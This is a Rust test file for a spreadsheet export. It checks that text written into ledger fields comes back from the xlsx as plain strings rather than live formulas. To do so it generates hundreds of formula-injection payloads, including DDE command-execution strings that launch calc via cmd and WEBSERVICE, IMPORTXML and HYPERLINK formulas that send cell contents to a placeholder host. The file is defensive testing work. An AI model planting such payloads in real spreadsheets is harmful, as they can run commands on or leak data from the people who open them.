//! Nothing that anybody writes into a document becomes a formula in the workbook.

use std::collections::BTreeSet;

use calamine::{Data, Reader as _, Xlsx};
use jiff::civil::date;

use super::*;

/// What comes before a formula.
const BEFORE: [&str; 18] = [
    "", " ", "\u{a0}", "\u{3000}", "\u{2003}", "\u{200b}", "\u{feff}", "\u{202e}", "\t", "\r",
    "\n", "\r\n", "\"", "'", ";", ",", "|", "\u{1}",
];

/// What makes one.
const SIGNS: [&str; 10] = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "==", "=-"];

/// What it does.
const FORMULAS: [&str; 8] = [
    "1+1",
    "SUM(A1:A9)",
    "HYPERLINK(\"http://x.invalid/?\"&A1,\"详情\")",
    "cmd|'/c calc'!A0",
    "WEBSERVICE(\"http://x.invalid/\"&B2)",
    "IMPORTXML(CONCAT(\"http://x.invalid/\",C3),\"//a\")",
    "DDE(\"cmd\";\"/c calc\";\"x\")",
    "[file.xlsx]Sheet1!A1",
];

/// What an XML part or an escape of Excel's might be confused by.
const ODD: [&str; 14] = [
    "<f>1+1</f>",
    "</t></is><f>1+1</f>",
    "]]><f>1</f>",
    "&equals;1+1",
    "&#61;1+1",
    "_x003D_1+1",
    "_x000D_",
    "_x005F_x003D_1",
    "{=1+1}",
    "00123",
    "1E5",
    "2026-11-24",
    "TRUE",
    "#REF!",
];

fn payloads() -> BTreeSet<String> {
    let mut payloads: BTreeSet<_> = ODD.map(str::to_owned).into();
    for before in BEFORE {
        for sign in SIGNS {
            payloads.extend(FORMULAS.map(|formula| format!("{before}{sign}{formula}")));
        }
    }
    payloads
}

/// A row that says this wherever somebody may write something.
fn a_row(text: &str) -> Row {
    Row {
        number: text.to_owned(),
        title: text.to_owned(),
        creditor: text.to_owned(),
        debtor: text.to_owned(),
        received_on: date(2026, 9, 1),
        due_on: None,
        handler: text.to_owned(),
        reply: text.to_owned(),
        adoption: "",
        state: "",
        days_late: None,
        remarks: text.to_owned(),
    }
}

#[test]
fn what_would_be_a_formula_comes_back_as_a_text() {
    let payloads = payloads();
    assert!(payloads.len() >= 300, "only {}", payloads.len());
    let (sender, batches) = mpsc::channel(1);
    let rows = payloads.iter().map(|text| a_row(text)).collect();
    sender.try_send(rows).unwrap();
    drop(sender);
    let about = [("台账", "=1+1".to_owned())];
    let (file, _) = write(batches, &about).unwrap();
    let mut book = Xlsx::new(std::io::BufReader::new(file)).unwrap();
    for sheet in ["台账", "说明"] {
        let formulas = book.worksheet_formula(sheet).unwrap();
        assert_eq!(formulas.used_cells().count(), 0, "{sheet} calculates");
    }
    let about = book.worksheet_range("说明").unwrap();
    assert_eq!(about.get((0, 1)), Some(&Data::String("=1+1".to_owned())));
    let sheet = book.worksheet_range("台账").unwrap();
    assert_eq!(sheet.height(), payloads.len() + 1);
    for (place, text) in (1..).zip(&payloads) {
        let expected = Data::String(text.clone());
        for column in [1, 2, 3, 4, 7, 8, 12] {
            let found = sheet.get_value((place, column));
            assert_eq!(found, Some(&expected), "column {column} of {text:?}");
        }
    }
}
